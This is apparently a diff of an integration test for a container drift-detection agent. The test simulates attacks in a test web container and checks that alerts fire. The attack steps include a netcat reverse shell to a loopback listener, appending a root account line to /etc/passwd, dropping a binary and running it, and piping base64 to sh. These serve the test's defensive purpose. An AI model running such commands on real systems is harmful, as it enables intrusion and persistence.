@@ -7,7 +7,7 @@ Workloads (each its own image, so its own baseline; busybox shell scripts):
   lines to ``access.log.<epoch>``. Requests come from this test process (host: not traced).
 - cron: every second a job writes a timestamped report and prunes all but the newest three.
 - worker: every 0.3 s sends a job to a backend at 127.0.0.1:$BACKEND_PORT and appends a log
-  line; the backend is a busybox ``nc -lk`` in its own container.
+  line; the backend is a busybox ``nc -ll`` in its own container.
 
 Phases: learn (``--learn-for``) -> benign variations (faster rate, a second web replica, a
 restart, rotations with new names, the backend stopped for 6 s) -> attacks on the web container.
@@ -20,16 +20,8 @@ The module prints a recall / false-alert summary (README "Detection quality" quo
 from __future__ import annotations
 
 import contextlib
-import io
-import json
-import socket
-import subprocess
-import sys
-import tarfile
 import tempfile
-import threading
 import time
-import urllib.request
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
@@ -39,6 +31,19 @@ import pytest
 from tests.support.agent_proc import AgentProcess
 from tests.support.containers import run_container
 from tests.support.images import workload_image
+from tests.support.scenario import (
+    ReverseShellListener,
+    Traffic,
+    baseline_modes,
+    baselines,
+    files_in,
+    free_port,
+    get,
+    has_reason,
+    image_id,
+    reasons,
+    wait_until,
+)
 
 pytestmark = pytest.mark.integration
 
@@ -88,121 +93,12 @@ done
 """
 
 
-def free_port() -> int:
-    with socket.socket() as s:
-        s.bind(("127.0.0.1", 0))
-        return s.getsockname()[1]
-
-
-class Traffic:
-    """HTTP GETs to the web containers from this (host, untraced) process at a set rate."""
-
-    def __init__(self, ports: list[int], interval: float) -> None:
-        self.ports = list(ports)
-        self.interval = interval
-        self.sent = 0
-        self.failed = 0
-        self._stop = threading.Event()
-        self._thread = threading.Thread(target=self._run, daemon=True)
-
-    def __enter__(self) -> Traffic:
-        self._thread.start()
-        return self
-
-    def __exit__(self, *exc: object) -> None:
-        self._stop.set()
-        self._thread.join(10)
-
-    def _run(self) -> None:
-        n = 0
-        while not self._stop.is_set():
-            for port in list(self.ports):
-                n += 1
-                ok = get(port, f"page={n}") is not None
-                self.sent += ok
-                self.failed += not ok
-            self._stop.wait(self.interval)
-
-
-def get(port: int, query: str, timeout: float = 3.0) -> str | None:
-    try:
-        with urllib.request.urlopen(f"http://127.0.0.1:{port}/cgi-bin/app?{query}",
-                                    timeout=timeout) as response:
-            return response.read().decode()
-    except OSError:
-        return None
-
-
-def wait_until(predicate: Callable[[], object], timeout: float, what: str) -> object:
-    deadline = time.monotonic() + timeout
-    while time.monotonic() < deadline:
-        result = predicate()
-        if result:
-            return result
-        time.sleep(0.2)
-    raise AssertionError(f"timed out after {timeout} s waiting for {what}")
-
-
-def baselines(state_dir) -> dict[str, dict]:
-    cmd = [sys.executable, "-m", "driftwarden", "baseline", "--state-dir", str(state_dir),
-           "--json", "list"]
-    out = subprocess.run(cmd, capture_output=True, text=True, timeout=30, check=False)
-    if out.returncode != 0:
-        return {}
-    return {b["image_id"]: b for b in json.loads(out.stdout)}
-
-
-def baseline_modes(state_dir) -> dict[str, str]:
-    return {image_id: b["mode"] for image_id, b in baselines(state_dir).items()}
-
-
-def files_in(container, directory: str) -> list[str]:
-    """Names under `directory`, read through Docker's archive API (no exec in the container)."""
-    stream, _ = container.container.get_archive(directory)
-    data = io.BytesIO(b"".join(stream))
-    with tarfile.open(fileobj=data) as tar:
-        return [m.name for m in tar.getmembers() if m.isfile()]
-
-
-def reasons(alert) -> list[tuple[str, str]]:
-    return [(r["code"], r["text"]) for r in alert["reasons"]]
-
-
-def detail(alert, key: str) -> str:
-    return str(alert["reasons"][0]["details"].get(key, ""))
-
-
 @dataclass
 class Attack:
     name: str
     run: Callable[[], None]
     expect: dict[str, Callable[[dict], bool]]  # what must be reported: name -> alert predicate
     latency: dict[str, float] | None = None
-
-
-class ReverseShellListener:
-    """The attacker's end of a reverse shell, on the host loopback: accepts, sends `exit`."""
-
-    def __init__(self) -> None:
-        self.sock = socket.socket()
-        self.sock.bind(("127.0.0.1", 0))
-        self.sock.listen(1)
-        self.port = self.sock.getsockname()[1]
-        self.connected = threading.Event()
-        threading.Thread(target=self._serve, daemon=True).start()
-
-    def _serve(self) -> None:
-        with contextlib.suppress(OSError):
-            conn, _ = self.sock.accept()
-            self.connected.set()
-            with conn:
-                conn.sendall(b"id\nexit\n")
-                conn.settimeout(5)
-                with contextlib.suppress(OSError):
-                    conn.recv(4096)
-
-    def close(self) -> None:
-        self.sock.close()
 
 
 def test_scenarios_learn_benign_attack(kernel_ok, docker_ok, bb_image, tmp_path, capsys):
@@ -220,7 +116,7 @@ def test_scenarios_learn_benign_attack(kernel_ok, docker_ok, bb_image, tmp_path,
     with contextlib.ExitStack() as stack:
         stack.enter_context(agent)
         backend = stack.enter_context(run_container(
-            bb_image, ["nc", "-lk", "-p", str(backend_port), "-e", "/bin/cat"],
+            bb_image, ["nc", "-ll", "-p", str(backend_port), "-e", "/bin/cat"],
             name="backend", **host))
         web = stack.enter_context(run_container(
             web_image, ["/app/start.sh"], name="web", environment={"PORT": str(web_port)},
@@ -233,8 +129,8 @@ def test_scenarios_learn_benign_attack(kernel_ok, docker_ok, bb_image, tmp_path,
         ]
         wait_until(lambda: get(web_port, "ping") is not None, 15, "the web server")
         traffic = stack.enter_context(Traffic([web_port], interval=0.2))
-        images = {web.container.attrs["Image"], cron_image_id(cron_image),
-                  cron_image_id(worker_image), backend.container.attrs["Image"]}
+        images = {web.container.attrs["Image"], image_id(cron_image),
+                  image_id(worker_image), backend.container.attrs["Image"]}
 
         # -- learn --------------------------------------------------------------------------
         wait_until(lambda: all(baseline_modes(state).get(i) == "monitor" for i in images),
@@ -286,54 +182,51 @@ def test_scenarios_learn_benign_attack(kernel_ok, docker_ok, bb_image, tmp_path,
         stack.callback(listener.close)
         new_port = free_port()
         cid = web.id
+        # Checks look at every reason: an incident folds the alerts of one cause into one
+        # alert (its reasons in arrival order, its first alert's process).
         attacks = [
             Attack("drop and execute a copied binary",
                    lambda: web.exec(["sh", "-c", "cp /bin/busybox /tmp/dropper; /tmp/dropper"]),
                    {"drift exec-added-binary": lambda a: a["kind"] == "drift"
-                    and detail(a, "path") == "/tmp/dropper"
-                    and reasons(a)[0][0] == "exec-added-binary"}),
+                    and has_reason(a, "exec-added-binary", path="/tmp/dropper")}),
             Attack("reverse shell nc -e /bin/sh",
                    lambda: web.exec(["nc", "127.0.0.1", str(listener.port), "-e", "/bin/sh"]),
                    {"novel connect to the listener": lambda a: a["kind"] == "novel"
-                    and f":{listener.port} " in detail(a, "item"),
+                    and has_reason(a, "new-connect", item=lambda s: f":{listener.port} " in s),
                     "novel nc -> shell lineage": lambda a: a["kind"] == "novel"
-                    and reasons(a)[0][0] == "new-lineage" and ":nc started" in detail(a, "item")
-                    and detail(a, "item").endswith(":sh")}),
+                    and has_reason(a, "new-lineage",
+                                   item=lambda s: ":nc started" in s and s.endswith(":sh"))}),
             Attack("write below /etc",
                    lambda: web.exec(["sh", "-c", "echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd"]),
                    {"novel write /etc/passwd, high": lambda a: a["kind"] == "novel"
-                    and reasons(a)[0][0] == "new-write" and "/etc/passwd" in detail(a, "item")
+                    and has_reason(a, "new-write", item=lambda s: "/etc/passwd" in s)
                     and a["severity"] == "high"}),
             Attack("write into /bin",
                    lambda: web.exec(["sh", "-c", "echo evil > /bin/evil"]),
                    {"drift write-binary-dir": lambda a: a["kind"] == "drift"
-                    and reasons(a)[0][0] == "write-binary-dir"
-                    and detail(a, "path") == "/bin/evil"}),
+                    and has_reason(a, "write-binary-dir", path="/bin/evil")}),
             Attack("connect to a new port",
                    lambda: web.exec(["sh", "-c", f"nc -w1 127.0.0.1 {new_port} </dev/null"]),
                    {"novel connect": lambda a: a["kind"] == "novel"
-                    and reasons(a)[0][0] == "new-connect"
-                    and f":{new_port} " in detail(a, "item")}),
+                    and has_reason(a, "new-connect", item=lambda s: f":{new_port} " in s)}),
             Attack("shell spawned by the web server",
                    lambda: get(web_port, "debug=id"),
                    {"novel CGI -> shell lineage, high": lambda a: a["kind"] == "novel"
-                    and reasons(a)[0][0] == "new-lineage"
-                    and "/www/cgi-bin/app" in detail(a, "item")
-                    and detail(a, "item").endswith(":sh") and a["severity"] == "high"}),
+                    and has_reason(a, "new-lineage", item=lambda s: "/www/cgi-bin/app" in s
+                                   and s.endswith(":sh"))
+                    and a["severity"] == "high"}),
             Attack("chmod +x of a new file",
                    lambda: web.exec(["sh", "-c", "echo '#!/bin/sh' > /tmp/run.sh; "
                                      "chmod +x /tmp/run.sh"]),
                    {"drift chmod-x-new-file": lambda a: a["kind"] == "drift"
-                    and reasons(a)[0][0] == "chmod-x-new-file"
-                    and detail(a, "path") == "/tmp/run.sh"}),
+                    and has_reason(a, "chmod-x-new-file", path="/tmp/run.sh")}),
             Attack("decoded payload piped to sh",
                    lambda: web.exec(["sh", "-c", "echo aWQK | base64 -d | sh"]),
                    {"novel exec of base64": lambda a: a["kind"] == "novel"
-                    and reasons(a)[0][0] == "new-exec"
-                    and detail(a, "item").endswith(" as base64"),
+                    and has_reason(a, "new-exec", item=lambda s: s.endswith(" as base64")),
                     "novel shell fed by the pipe": lambda a: a["kind"] == "novel"
-                    and reasons(a)[0][0] == "new-lineage" and detail(a, "item").endswith(":sh")
-                    and a["process"]["argv"] == ["sh"]}),
+                    and has_reason(a, "new-lineage", item=lambda s: s.endswith(
+                        "busybox:sh started /bin/busybox:sh"))}),
         ]
         for attack in attacks:
             start_wall = time.time()
@@ -343,11 +236,11 @@ def test_scenarios_learn_benign_attack(kernel_ok, docker_ok, bb_image, tmp_path,
                 try:
                     found = agent.wait_for_alerts(
                         lambda a, p=predicate, t=start_wall: a["container"]["id"] == cid
-                        and a["time"] >= t - 1 and p(a),
+                        and a["last_seen"] >= t - 1 and p(a),
                         timeout=ALERT_DEADLINE, what=f"{attack.name}: {what}")
                 except AssertionError:
                     continue
-                attack.latency[what] = max(0.0, found[0]["first_seen"] - start_wall)
+                attack.latency[what] = max(0.0, found[0]["last_seen"] - start_wall)
         # attacks must not have leaked alerts into the containers that were left alone
         bystanders = [a for a in agent.alerts()[learned_at:] if a["container"]["id"] in ours
                       and a["container"]["id"] != cid and a["time"] >= benign_started]
@@ -378,12 +271,3 @@ def test_scenarios_learn_benign_attack(kernel_ok, docker_ok, bb_image, tmp_path,
     assert not false_bystander, false_bystander
     assert not missed, f"missed: {missed}; alerts: {[reasons(a) for a in agent.alerts()]}"
 
-
-def cron_image_id(tag: str) -> str:
-    from tests.support.containers import docker_client
-
-    client = docker_client()
-    try:
-        return client.images.get(tag).id
-    finally:
-        client.close()
